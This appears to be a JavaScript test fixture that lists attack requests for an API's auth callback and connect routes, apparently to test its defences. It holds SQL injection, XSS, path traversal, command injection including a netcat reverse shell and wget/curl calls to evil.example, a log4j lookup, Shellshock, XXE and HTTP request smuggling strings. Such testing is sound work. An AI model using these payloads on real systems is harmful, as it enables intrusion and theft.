// Attacks on the routes that people's browsers use, each as bytes or as {path, method, headers, body}. Payloads are the
// classics of OWASP's testing guide and of the core rule set's own regression tests, put where this API takes input.

const q = encodeURIComponent;
const state = 'AbCdEf0123456789.AbCdEf0123456789';
const callback = (parameters) => `/auth/callback?${Object.entries(parameters).map(([name, value]) => `${name}=${q(value)}`).join('&')}`;
const form = (body, path = '/connect/ticket-1') => ({ path, method: 'POST', body, headers: { 'content-type': 'application/x-www-form-urlencoded' } });

const SQL = [
  '\' OR \'1\'=\'1', '1\' OR 1=1--', '1 UNION SELECT username, password FROM users--', '\'; DROP TABLE connections;--', '1 AND SLEEP(5)', '1\' AND (SELECT 1 FROM pg_sleep(5))--',
  '1\' WAITFOR DELAY \'0:0:5\'--', 'admin\'/*', '1/**/OR/**/1=1', '\' AND extractvalue(1,concat(0x7e,version()))--', '\") OR (\"a\"=\"a', 'x\' UNION ALL SELECT NULL,NULL,version()--',
];
const XSS = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', 'javascript:alert(document.cookie)', '<iframe src="javascript:alert(1)">', '<body onload=alert(1)>',
  '\'-alert(1)-\'<b>', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<details open ontoggle=alert(1)>', '"><script src=//evil.example/x.js></script>',
];
const PATHS = ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//etc/passwd', '/etc/passwd', 'file:///etc/passwd', '/proc/self/environ', '..%2f..%2fetc%2fpasswd', 'https://10.0.0.1/shell.txt?'];
const COMMANDS = ['; cat /etc/passwd', '| nc 10.0.0.1 4444 -e /bin/sh', '$(wget http://evil.example/x)', '`curl http://evil.example`', '&& ping -c 1 evil.example', '() { :; }; /bin/bash -c id'];

/** [what, request] */
export const ATTACKS = [
  ...SQL.flatMap((text) => [
    [`SQL in code: ${text}`, { path: callback({ code: text, state }) }],
    [`SQL in a parameter of no meaning: ${text}`, { path: callback({ code: 'abc', state, session_state: text }) }],
  ]),
  ...SQL.filter((text) => !/^(admin|1 AND SLEEP|1\/)/.test(text)).map((text) => [`SQL in error_description: ${text}`, { path: callback({ error: 'access_denied', error_description: `denied ${text}`, state }) }]),
  ...SQL.slice(0, 8).map((text) => [`SQL in /connect's query: ${text}`, { path: `/connect/ticket-1?next=${q(text)}` }]),
  ...XSS.flatMap((text) => [
    [`XSS in error_description: ${text}`, { path: callback({ error: 'access_denied', error_description: text, state }) }],
    [`XSS in code: ${text}`, { path: callback({ code: text, state }) }],
    [`XSS in /connect's query: ${text}`, { path: `/connect/ticket-1?title=${q(text)}` }],
  ]),
  ...PATHS.flatMap((text) => [
    [`traversal in state: ${text}`, { path: callback({ code: 'abc', state: text }) }],
    [`traversal in a parameter: ${text}`, { path: callback({ code: 'abc', state, file: text }) }],
    [`traversal in /connect's query: ${text}`, { path: `/connect/ticket-1?file=${q(text)}` }],
  ]),
  ...COMMANDS.flatMap((text) => [
    [`a command in code: ${text}`, { path: callback({ code: text, state }) }],
    [`a command in error_description: ${text}`, { path: callback({ error: 'server_error', error_description: `x ${text}`, state }) }],
    [`a command in /connect's query: ${text}`, { path: `/connect/ticket-1?x=${q(text)}` }],
  ]),
  ['SQL as a ticket', { path: `/connect/${q('1\' OR 1=1--')}` }],
  ['XSS as a ticket', { path: `/connect/${q('<script>alert(1)</script>')}` }],
  ['XSS as a field\'s name', form(`${q('<script>alert(1)</script>')}=1`)],
  ['SQL as a field\'s name', form(`${q('a\' OR \'1\'=\'1')}=1`)],
  ['code twice', { path: '/auth/callback?code=a&code=b&state=c' }],
  ['state twice', { path: '/auth/callback?code=a&state=b&state=c' }],
  ['a line break and a header in state', { path: '/auth/callback?code=a&state=b%0d%0aSet-Cookie:%20x=y' }],
  ['a line break and a header in a parameter', { path: '/auth/callback?code=a&state=b&lang=c%0d%0aLocation:%20https://evil.example' }],
  ['a zero byte', { path: '/auth/callback?code=a%00b&state=c' }],
  ['a zero byte in a parameter', { path: '/auth/callback?code=a&state=c&x=a%00b' }],
  ['a scanner', { path: '/connect/ticket-1', headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }],
  ['another scanner', { path: callback({ code: 'a', state }), headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }],
  ['a log4j lookup', { path: callback({ code: 'a', state, x: '${jndi:ldap://evil.example/a}' }) }],
  ['Shellshock in a header', { path: '/connect/ticket-1', headers: { 'user-agent': '() { :; }; /bin/bash -c "id"' } }],
  ['XML', { path: '/connect/ticket-1', method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }],
  ['JSON', { path: '/connect/ticket-1', method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"a":"b"}' }],
  ['an upload', { path: '/connect/ticket-1', method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php ?>\r\n--x--\r\n' }],
  ['a charset that hides', { path: '/connect/ticket-1', method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded; charset=ibm037' }, body: 'a=b' }],
  ['a body on GET', { path: callback({ code: 'a', state }), method: 'GET', headers: { 'content-length': '3' }, body: 'a=b' }],
  ['many fields', form(Array.from({ length: 200 }, (_, i) => `f${i}=1`).join('&'))],
  ['a field\'s name without end', form(`${'n'.repeat(3000)}=1`)],
  ['an oversized form', form(`a=${'x'.repeat(100_000)}`)],
  ['an oversized code', { path: callback({ code: 'c'.repeat(9000), state }) }],
  ['an oversized query', { path: callback({ code: 'c'.repeat(20_000), state }) }],
  ['an oversized header', { path: '/connect/ticket-1', headers: { 'x-large': 'x'.repeat(20_000) } }],
  ['an oversized cookie', { path: '/connect/ticket-1', headers: { cookie: `a=${'x'.repeat(20_000)}` } }],
];

/** Requests that two servers could read in two ways: [what, bytes without Host and blank line's end]. */
export const SMUGGLING = [
  ['Content-Length and Transfer-Encoding', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/agents HTTP/1.1\r\nHost: x\r\n\r\n'],
  ['two lengths', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nContent-Length: 30\r\n\r\nGET /admin/agents HTTP/1.1\r\n\r\n'],
  ['a length with a sign', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nContent-Length: +5\r\n\r\na=b&c'],
  ['lengths in a list', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5, 5\r\n\r\na=b&c'],
  ['an encoding that is none', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n'],
  ['two encodings', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n'],
  ['encoding with a blank before the colon', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n'],
  ['a chunk\'s size that is none', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\na\r\n0\r\n\r\n'],
  ['a chunk larger than anything', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\na\r\n0\r\n\r\n'],
  ['a folded header', 'POST /connect/t HTTP/1.1\r\nHost: localhost\r\nX: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n'],
  ['HTTP/1.0 with chunks', 'POST /connect/t HTTP/1.0\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'],
  ['no host', 'GET /connect/t HTTP/1.1\r\n\r\n'],
  ['two hosts', 'GET /connect/t HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n'],
  ['a line feed in the request line', 'GET /connect/t\n HTTP/1.1\r\nHost: localhost\r\n\r\n'],
  ['a zero byte in a header', 'GET /connect/t HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n'],
  ['an absolute target of another host', 'GET http://evil.example/admin/agents HTTP/1.1\r\nHost: localhost\r\n\r\n'],
  ['a smuggled request in a parameter', 'GET /auth/callback?code=a&state=b&x=c%0d%0a%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nUser-Agent: x\r\n\r\n'],
];
